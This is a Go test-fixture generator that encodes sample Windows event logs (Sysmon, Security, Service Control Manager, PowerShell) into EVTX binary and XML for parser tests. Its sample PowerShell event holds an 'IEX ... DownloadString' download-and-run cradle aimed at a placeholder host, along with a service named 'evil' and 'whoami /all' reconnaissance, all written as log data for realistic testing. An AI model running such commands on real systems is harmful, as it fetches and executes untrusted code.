package ingest

// The generator of testdata/evtx/sample.evtx and sample.xml. No tool here
// writes EVTX (Debian's python3-evtx only reads it), so the fixture is
// made by this code from the event list below: writeEVTX encodes each
// event the way Windows does (one template per event shape, defined
// inline the first time in a chunk and referred to by offset after;
// element names stored once per chunk; typed substitution values), and
// renderXMLExport writes the same events as the XmlWinEventLog text a
// Splunk export holds, by plain string formatting, independently of the
// binary path. Regenerate with: go test ./ingest -run TestEVTX -update-evtx

import (
	"bytes"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"hash/crc32"
	"strconv"
	"strings"
	"time"
	"unicode/utf16"
)

// genValue is a typed value and its XML text.
type genValue struct {
	typ  byte
	text string // "" with typ vtNull: no value
}

type genData struct {
	name string
	val  genValue
}

type genEvent struct {
	provider, guid      string
	qualifiers          string // "" for none
	eventID             int
	version, level      int
	task, opcode        int
	keywords            string // 0x...
	time                string // 2024-01-02T03:04:05.1234567Z
	recordID            int
	activityID          string
	processID, threadID int
	channel, computer   string
	userID              string // SID or ""
	data                []genData
}

func ws(s string) genValue    { return genValue{vtWString, s} }
func u32(n int) genValue      { return genValue{vtUInt32, strconv.Itoa(n)} }
func hex64(s string) genValue { return genValue{vtHexInt64, s} }
func guid(s string) genValue  { return genValue{vtGUID, s} }
func sid(s string) genValue   { return genValue{vtSID, s} }
func null() genValue          { return genValue{vtNull, ""} }

// sampleEvents are the fixture's events: Sysmon 1 and 3, Security 4688
// and 4624 (with empty Data), System 7045 (EventID Qualifiers) and a
// PowerShell 4104 whose script spans lines and holds & and <.
func sampleEvents() []genEvent {
	sysmon := func(rec int, t, image, cmd, parent string) genEvent {
		return genEvent{provider: "Microsoft-Windows-Sysmon", guid: "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}", eventID: 1,
			version: 5, level: 4, task: 1, keywords: "0x8000000000000000", time: t, recordID: rec, processID: 2844, threadID: 3604,
			channel: "Microsoft-Windows-Sysmon/Operational", computer: "win-01.corp.local", userID: "S-1-5-18",
			data: []genData{{"RuleName", ws("-")}, {"UtcTime", ws(t[:10] + " " + t[11:23])}, {"ProcessGuid", guid("{0C1E0330-048F-60E8-0B00-00000000D001}")},
				{"ProcessId", u32(4242 + rec)}, {"Image", ws(image)}, {"OriginalFileName", null()}, {"CommandLine", ws(cmd)},
				{"CurrentDirectory", ws(`C:\Windows\system32\`)}, {"User", ws(`CORP\alice`)}, {"IntegrityLevel", ws("High")},
				{"Hashes", ws("SHA1=AB,MD5=CD,SHA256=EF,IMPHASH=01")}, {"ParentProcessId", u32(1000)}, {"ParentImage", ws(parent)},
				{"ParentCommandLine", ws(parent)}}}
	}
	return []genEvent{
		sysmon(1, "2024-01-02T03:04:05.1234567Z", `C:\Windows\System32\cmd.exe`, `cmd.exe /c whoami & echo <done>`, `C:\Windows\explorer.exe`),
		sysmon(2, "2024-01-02T03:04:06.0000000Z", `C:\Windows\System32\reg.exe`, `reg add "HKLM\Software\x" /v y /d 1`, `C:\Windows\System32\cmd.exe`),
		{provider: "Microsoft-Windows-Sysmon", guid: "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}", eventID: 3, version: 5, level: 4, task: 3,
			keywords: "0x8000000000000000", time: "2024-01-02T03:04:07.5000000Z", recordID: 3, processID: 2844, threadID: 3604,
			channel: "Microsoft-Windows-Sysmon/Operational", computer: "win-01.corp.local", userID: "S-1-5-18",
			data: []genData{{"Image", ws(`C:\Windows\System32\curl.exe`)}, {"Protocol", ws("tcp")}, {"Initiated", ws("true")},
				{"SourceIp", ws("10.0.0.5")}, {"SourcePort", u32(50123)}, {"DestinationIp", ws("203.0.113.7")}, {"DestinationPort", u32(443)}}},
		{provider: "Microsoft-Windows-Security-Auditing", guid: "{54849625-5478-4994-A5BA-3E3B0328C30D}", eventID: 4688, version: 2,
			task: 13312, keywords: "0x8020000000000000", time: "2024-01-02T03:05:00.0000001Z", recordID: 4, processID: 4, threadID: 276,
			channel: "Security", computer: "win-01.corp.local",
			data: []genData{{"SubjectUserSid", sid("S-1-5-18")}, {"SubjectUserName", ws("WIN-01$")}, {"NewProcessId", genValue{vtSizeT, "0xf84"}},
				{"NewProcessName", ws(`C:\Windows\System32\whoami.exe`)}, {"TokenElevationType", ws("%%1936")}, {"ProcessId", genValue{vtSizeT, "0xb2c"}},
				{"CommandLine", ws("whoami /all")}, {"TargetUserName", ws("-")}, {"ParentProcessName", ws(`C:\Windows\System32\cmd.exe`)}}},
		{provider: "Microsoft-Windows-Security-Auditing", guid: "{54849625-5478-4994-A5BA-3E3B0328C30D}", eventID: 4624, version: 2,
			task: 12544, keywords: "0x8020000000000000", time: "2024-01-02T03:06:00.0000000Z", recordID: 5, activityID: "{F42005B9-C322-4BD9-962E-C985C22D0000}",
			processID: 700, threadID: 800, channel: "Security", computer: "dc01.corp.local",
			data: []genData{{"TargetUserName", ws("alice")}, {"TargetDomainName", ws("CORP")}, {"LogonType", u32(3)},
				{"WorkstationName", null()}, {"IpAddress", ws("10.0.0.5")}, {"IpPort", ws("51000")}}},
		{provider: "Service Control Manager", guid: "{555908D1-A6D7-4695-8E1E-26931D2012F4}", qualifiers: "16384", eventID: 7045,
			keywords: "0x8080000000000000", time: "2024-01-02T03:07:00.0000000Z", recordID: 6, processID: 600, threadID: 900,
			channel: "System", computer: "win-01.corp.local", userID: "S-1-5-21-1-2-3-500",
			data: []genData{{"ServiceName", ws("evil")}, {"ImagePath", ws(`C:\Temp\evil.exe`)}, {"ServiceType", ws("user mode service")},
				{"StartType", ws("auto start")}, {"AccountName", ws("LocalSystem")}}},
		{provider: "Microsoft-Windows-PowerShell", guid: "{A0C1853B-5C40-4B15-8766-3CF1C58F985A}", eventID: 4104, version: 1, level: 5,
			task: 2, opcode: 15, keywords: "0x0", time: "2024-01-02T03:08:00.0000000Z", recordID: 7, activityID: "{11111111-2222-3333-4444-555555555555}",
			processID: 5000, threadID: 5001, channel: "Microsoft-Windows-PowerShell/Operational", computer: "win-01.corp.local", userID: "S-1-5-21-1-2-3-1001",
			data: []genData{{"MessageNumber", u32(1)}, {"MessageTotal", u32(1)},
				{"ScriptBlockText", ws("$a = 1\r\nif ($a -lt 2 -and $true) { Write-Output \"x & y\" }\r\nIEX (New-Object Net.WebClient).DownloadString('http://x')")},
				{"ScriptBlockId", ws("b1b2c3d4-0000-1111-2222-333344445555")}, {"Path", null()}}},
	}
}

// renderXMLExport writes the events as one-line XmlWinEventLog records.
func renderXMLExport(evs []genEvent) string {
	var b strings.Builder
	for _, e := range evs {
		b.WriteString("<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>")
		fmt.Fprintf(&b, "<Provider Name='%s' Guid='%s'/>", e.provider, e.guid)
		if e.qualifiers != "" {
			fmt.Fprintf(&b, "<EventID Qualifiers='%s'>%d</EventID>", e.qualifiers, e.eventID)
		} else {
			fmt.Fprintf(&b, "<EventID>%d</EventID>", e.eventID)
		}
		fmt.Fprintf(&b, "<Version>%d</Version><Level>%d</Level><Task>%d</Task><Opcode>%d</Opcode><Keywords>%s</Keywords>",
			e.version, e.level, e.task, e.opcode, e.keywords)
		fmt.Fprintf(&b, "<TimeCreated SystemTime='%s00Z'/><EventRecordID>%d</EventRecordID>", strings.TrimSuffix(e.time, "Z"), e.recordID)
		if e.activityID != "" {
			fmt.Fprintf(&b, "<Correlation ActivityID='%s'/>", e.activityID)
		} else {
			b.WriteString("<Correlation/>")
		}
		fmt.Fprintf(&b, "<Execution ProcessID='%d' ThreadID='%d'/><Channel>%s</Channel><Computer>%s</Computer>",
			e.processID, e.threadID, e.channel, e.computer)
		if e.userID != "" {
			fmt.Fprintf(&b, "<Security UserID='%s'/>", e.userID)
		} else {
			b.WriteString("<Security/>")
		}
		b.WriteString("</System><EventData>")
		for _, d := range e.data {
			fmt.Fprintf(&b, "<Data Name='%s'>%s</Data>", d.name, strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;").Replace(d.val.text))
		}
		b.WriteString("</EventData></Event>\n")
	}
	return b.String()
}

// chunkWriter builds one 64 KiB chunk.
type chunkWriter struct {
	buf       []byte
	names     map[string]int // name -> offset of its inline structure
	templates map[string]int // shape -> offset of its definition
}

func (c *chunkWriter) u8(v byte)    { c.buf = append(c.buf, v) }
func (c *chunkWriter) u16(v int)    { c.buf = binary.LittleEndian.AppendUint16(c.buf, uint16(v)) }
func (c *chunkWriter) u32(v int)    { c.buf = binary.LittleEndian.AppendUint32(c.buf, uint32(v)) }
func (c *chunkWriter) u64(v uint64) { c.buf = binary.LittleEndian.AppendUint64(c.buf, v) }
func (c *chunkWriter) utf16(s string) {
	for _, u := range utf16.Encode([]rune(s)) {
		c.u16(int(u))
	}
}

// name writes a name reference, inline the first time.
func (c *chunkWriter) name(s string) {
	if off, ok := c.names[s]; ok {
		c.u32(off)
		return
	}
	off := len(c.buf) + 4
	c.names[s] = off
	c.u32(off)
	c.u32(0) // next string in the hash bucket
	c.u16(0) // hash (unused by readers)
	c.u16(len(utf16.Encode([]rune(s))))
	c.utf16(s)
	c.u16(0)
}

// element writes an element; attrs and content write themselves.
func (c *chunkWriter) element(name string, attrs []func(), content func()) {
	tok := byte(tokOpenStart)
	if len(attrs) > 0 {
		tok |= 0x40
	}
	c.u8(tok)
	c.u16(0xffff) // dependency id: none
	sizeAt := len(c.buf)
	c.u32(0)
	c.name(name)
	if len(attrs) > 0 {
		listAt := len(c.buf)
		c.u32(0)
		for _, a := range attrs {
			a()
		}
		binary.LittleEndian.PutUint32(c.buf[listAt:], uint32(len(c.buf)-listAt-4))
	}
	if content == nil {
		c.u8(tokCloseEmpty)
	} else {
		c.u8(tokCloseStart)
		content()
		c.u8(tokEndElement)
	}
	binary.LittleEndian.PutUint32(c.buf[sizeAt:], uint32(len(c.buf)-sizeAt-4))
}

func (c *chunkWriter) attr(name string, value func()) func() {
	return func() {
		c.u8(tokAttribute)
		c.name(name)
		value()
	}
}

func (c *chunkWriter) text(s string) func() {
	return func() {
		c.u8(tokValue)
		c.u8(vtWString)
		c.u16(len(utf16.Encode([]rune(s))))
		c.utf16(s)
	}
}

func (c *chunkWriter) sub(id int, typ byte, optional bool) func() {
	return func() {
		if optional {
			c.u8(tokOptionalSubst)
		} else {
			c.u8(tokNormalSubst)
		}
		c.u16(id)
		c.u8(typ)
	}
}

// The substitution ids of the System part of every template.
const (
	sProvider = iota
	sGUID
	sQualifiers
	sEventID
	sVersion
	sLevel
	sTask
	sOpcode
	sKeywords
	sTime
	sRecordID
	sActivity
	sPID
	sTID
	sChannel
	sComputer
	sUser
	sData // first EventData value
)

// templateBody writes the template's XML for an event shape.
func (c *chunkWriter) templateBody(e genEvent) {
	c.buf = append(c.buf, tokFragmentHeader, 1, 1, 0)
	o := func(id int, typ byte) func() { return c.sub(id, typ, true) }
	c.element("Event", []func(){c.attr("xmlns", c.text("http://schemas.microsoft.com/win/2004/08/events/event"))}, func() {
		c.element("System", nil, func() {
			c.element("Provider", []func(){c.attr("Name", o(sProvider, vtWString)), c.attr("Guid", o(sGUID, vtGUID))}, nil)
			c.element("EventID", []func(){c.attr("Qualifiers", o(sQualifiers, vtUInt16))}, o(sEventID, vtUInt16))
			c.element("Version", nil, o(sVersion, vtUInt8))
			c.element("Level", nil, o(sLevel, vtUInt8))
			c.element("Task", nil, o(sTask, vtUInt16))
			c.element("Opcode", nil, o(sOpcode, vtUInt8))
			c.element("Keywords", nil, o(sKeywords, vtHexInt64))
			c.element("TimeCreated", []func(){c.attr("SystemTime", o(sTime, vtFileTime))}, nil)
			c.element("EventRecordID", nil, o(sRecordID, vtUInt64))
			c.element("Correlation", []func(){c.attr("ActivityID", o(sActivity, vtGUID))}, nil)
			c.element("Execution", []func(){c.attr("ProcessID", o(sPID, vtUInt32)), c.attr("ThreadID", o(sTID, vtUInt32))}, nil)
			c.element("Channel", nil, o(sChannel, vtWString))
			c.element("Computer", nil, o(sComputer, vtWString))
			c.element("Security", []func(){c.attr("UserID", o(sUser, vtSID))}, nil)
		})
		c.element("EventData", nil, func() {
			for i, d := range e.data {
				c.element("Data", []func(){c.attr("Name", c.text(d.name))}, o(sData+i, d.val.typ))
			}
		})
	})
	c.u8(tokEOF)
}

// encode turns a value's text into its binary form.
func encodeValue(v genValue) []byte {
	le := binary.LittleEndian
	switch v.typ {
	case vtNull:
		return nil
	case vtWString:
		var b []byte
		for _, u := range utf16.Encode([]rune(v.text)) {
			b = le.AppendUint16(b, u)
		}
		return b
	case vtUInt8:
		n, _ := strconv.Atoi(v.text)
		return []byte{byte(n)}
	case vtUInt16:
		n, _ := strconv.Atoi(v.text)
		return le.AppendUint16(nil, uint16(n))
	case vtUInt32:
		n, _ := strconv.Atoi(v.text)
		return le.AppendUint32(nil, uint32(n))
	case vtUInt64:
		n, _ := strconv.ParseUint(v.text, 10, 64)
		return le.AppendUint64(nil, n)
	case vtHexInt64, vtSizeT:
		n, _ := strconv.ParseUint(strings.TrimPrefix(v.text, "0x"), 16, 64)
		return le.AppendUint64(nil, n)
	case vtGUID:
		h, _ := hex.DecodeString(strings.NewReplacer("{", "", "}", "", "-", "").Replace(v.text))
		b := le.AppendUint32(nil, binary.BigEndian.Uint32(h[0:]))
		b = le.AppendUint16(b, binary.BigEndian.Uint16(h[4:]))
		b = le.AppendUint16(b, binary.BigEndian.Uint16(h[6:]))
		return append(b, h[8:16]...)
	case vtSID:
		parts := strings.Split(v.text, "-") // S, rev, auth, subs...
		rev, _ := strconv.Atoi(parts[1])
		auth, _ := strconv.ParseUint(parts[2], 10, 48)
		b := []byte{byte(rev), byte(len(parts) - 3)}
		for i := 5; i >= 0; i-- {
			b = append(b, byte(auth>>(8*i)))
		}
		for _, p := range parts[3:] {
			n, _ := strconv.ParseUint(p, 10, 32)
			b = le.AppendUint32(b, uint32(n))
		}
		return b
	case vtFileTime:
		t, _ := time.Parse(time.RFC3339Nano, v.text)
		ticks := uint64(t.Unix())*1e7 + uint64(t.Nanosecond()/100) + 116444736000000000
		return le.AppendUint64(nil, ticks)
	}
	panic(fmt.Sprintf("encodeValue: type 0x%02x", v.typ))
}

// record writes one event record.
func (c *chunkWriter) record(e genEvent) {
	start := len(c.buf)
	c.u32(0x00002a2a)
	c.u32(0) // size, patched below
	c.u64(uint64(e.recordID))
	c.u64(binary.LittleEndian.Uint64(encodeValue(genValue{vtFileTime, e.time})))
	c.buf = append(c.buf, tokFragmentHeader, 1, 1, 0)
	shape := e.provider + "|" + strconv.Itoa(e.eventID)
	for _, d := range e.data {
		shape += "|" + d.name + ":" + strconv.Itoa(int(d.val.typ))
	}
	c.u8(tokTemplate)
	c.u8(1)
	c.u32(len(shape)) // template id: any number
	if off, ok := c.templates[shape]; ok {
		c.u32(off)
	} else {
		off := len(c.buf) + 4
		c.templates[shape] = off
		c.u32(off)
		c.u32(0)                                   // next template
		c.buf = append(c.buf, make([]byte, 16)...) // template GUID
		sizeAt := len(c.buf)
		c.u32(0)
		c.templateBody(e)
		binary.LittleEndian.PutUint32(c.buf[sizeAt:], uint32(len(c.buf)-sizeAt-4))
	}
	opt := func(s string, typ byte) genValue {
		if s == "" {
			return null()
		}
		return genValue{typ, s}
	}
	vals := []genValue{ws(e.provider), opt(e.guid, vtGUID), opt(e.qualifiers, vtUInt16), {vtUInt16, strconv.Itoa(e.eventID)},
		{vtUInt8, strconv.Itoa(e.version)}, {vtUInt8, strconv.Itoa(e.level)}, {vtUInt16, strconv.Itoa(e.task)},
		{vtUInt8, strconv.Itoa(e.opcode)}, hex64(e.keywords), {vtFileTime, e.time}, {vtUInt64, strconv.Itoa(e.recordID)},
		opt(e.activityID, vtGUID), u32(e.processID), u32(e.threadID), ws(e.channel), ws(e.computer), opt(e.userID, vtSID)}
	for _, d := range e.data {
		vals = append(vals, d.val)
	}
	c.u32(len(vals))
	enc := make([][]byte, len(vals))
	for i, v := range vals {
		enc[i] = encodeValue(v)
		c.u16(len(enc[i]))
		c.u8(v.typ)
		c.u8(0)
	}
	for _, b := range enc {
		c.buf = append(c.buf, b...)
	}
	c.u8(tokEOF)
	size := len(c.buf) - start + 4
	c.u32(size)
	binary.LittleEndian.PutUint32(c.buf[start+4:], uint32(size))
}

// writeEVTX encodes the events, perChunk to a chunk.
func writeEVTX(evs []genEvent, perChunk int) []byte {
	var chunks [][]byte
	for i := 0; i < len(evs); i += perChunk {
		part := evs[i:min(i+perChunk, len(evs))]
		c := &chunkWriter{buf: make([]byte, evtxFirstRec), names: map[string]int{}, templates: map[string]int{}}
		for _, e := range part {
			c.record(e)
		}
		free := len(c.buf)
		if free > evtxChunkSize {
			panic("writeEVTX: chunk overflow")
		}
		h := c.buf
		copy(h, "ElfChnk\x00")
		le := binary.LittleEndian
		le.PutUint64(h[8:], uint64(part[0].recordID))
		le.PutUint64(h[16:], uint64(part[len(part)-1].recordID))
		le.PutUint64(h[24:], uint64(part[0].recordID))
		le.PutUint64(h[32:], uint64(part[len(part)-1].recordID))
		le.PutUint32(h[40:], 128)
		le.PutUint32(h[44:], uint32(lastRecordOffset(c.buf)))
		le.PutUint32(h[48:], uint32(free))
		le.PutUint32(h[52:], crc32.ChecksumIEEE(c.buf[evtxFirstRec:free]))
		sum := crc32.NewIEEE()
		sum.Write(h[:120])
		sum.Write(h[128:evtxFirstRec])
		le.PutUint32(h[124:], sum.Sum32())
		chunk := make([]byte, evtxChunkSize)
		copy(chunk, c.buf)
		chunks = append(chunks, chunk)
	}
	hdr := make([]byte, 4096)
	copy(hdr, evtxMagic)
	le := binary.LittleEndian
	le.PutUint64(hdr[8:], 0)
	le.PutUint64(hdr[16:], uint64(len(chunks)-1))
	le.PutUint64(hdr[24:], uint64(evs[len(evs)-1].recordID+1))
	le.PutUint32(hdr[32:], 128)
	le.PutUint16(hdr[36:], 1)
	le.PutUint16(hdr[38:], 3)
	le.PutUint16(hdr[40:], 4096)
	le.PutUint16(hdr[42:], uint16(len(chunks)))
	le.PutUint32(hdr[124:], crc32.ChecksumIEEE(hdr[:120]))
	var out bytes.Buffer
	out.Write(hdr)
	for _, c := range chunks {
		out.Write(c)
	}
	return out.Bytes()
}

func lastRecordOffset(buf []byte) int {
	off, last := evtxFirstRec, evtxFirstRec
	for off+8 <= len(buf) {
		last = off
		off += int(binary.LittleEndian.Uint32(buf[off+4:]))
	}
	return last
}
